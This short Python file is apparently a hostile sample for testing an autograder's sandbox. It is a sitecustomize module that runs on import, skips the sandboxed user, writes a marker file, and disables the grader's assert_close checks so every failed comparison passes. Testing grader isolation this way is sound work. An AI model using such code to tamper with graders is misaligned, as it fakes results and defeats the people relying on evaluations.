# Hostile payload (sitecustomize submission): runs wherever this module gets imported.
# Inside the sandbox (uid 65534) it does nothing: there it could do nothing new. Anywhere else
# (the scoring process, a fresh interpreter started by the grader) it leaves a marker file and
# turns every failed comparison into a pass.
import os as _os
import sys as _sys


def _dlbook_hostile_payload(name):
    if _os.getuid() == 65534:
        return
    try:
        with open(f"/tmp/dlbook_hostile_planted_ran_{name}_{_os.getpid()}", "w") as fh:
            fh.write(" ".join(_sys.argv))
    except OSError:
        pass
    for mod in ("autograder.testing", "autograder.plugin"):
        m = _sys.modules.get(mod)
        if m is not None and hasattr(m, "assert_close"):
            m.assert_close = lambda *a, **k: None


_dlbook_hostile_payload(__name__)
